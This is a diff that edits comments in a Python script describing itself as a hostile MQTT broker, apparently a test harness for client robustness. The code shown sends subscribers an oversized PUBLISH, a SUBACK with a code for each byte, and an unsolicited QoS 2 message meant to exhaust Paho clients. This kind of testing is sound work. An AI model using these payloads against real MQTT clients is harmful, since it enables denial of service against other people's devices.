@@ -1,5 +1,5 @@
-# An MQTT 3.1.1 broker of an attacker's: from SIGUSR1 on, whoever subscribes is sent an attack, and a short message.
-# broker.py ATTACK TOPIC BYTES [CERTIFICATE KEY]; it prints its port, and a line for each thing that happens.
+# A hostile MQTT 3.1.1 broker: from SIGUSR1 on, each subscriber gets an attack and a short message.
+# broker.py ATTACK TOPIC BYTES [CERTIFICATE KEY]; it prints its port, and a line for each event.
 import signal
 import socket
 import ssl
@@ -74,9 +74,9 @@ class Client:
                 whole, rest = divmod(size, len(chunk))
                 head = bytes([PUBLISH << 4 | 3]) + length(len(start) + size)
                 self.send(head, start, *(chunk for _ in range(whole)), chunk[:rest])
-            elif attack == "answer":  # one subscription acknowledged a million times
+            elif attack == "answer":  # acknowledges one subscription with a code for each byte
                 self.send(packet(0x90, bytes(2) + b"\x01" * size))
-            elif attack == "unasked":  # a message of quality 2, which would be kept until it is released
+            elif attack == "unasked":  # a message of quality 2, which Paho would keep until the broker releases it
                 self.send(packet(PUBLISH << 4 | 4, text(topic) + struct.pack(">H", LONG) + b" " * size))
             tell("sent", attack)
             self.publish(topic, SHORT, b"{}")
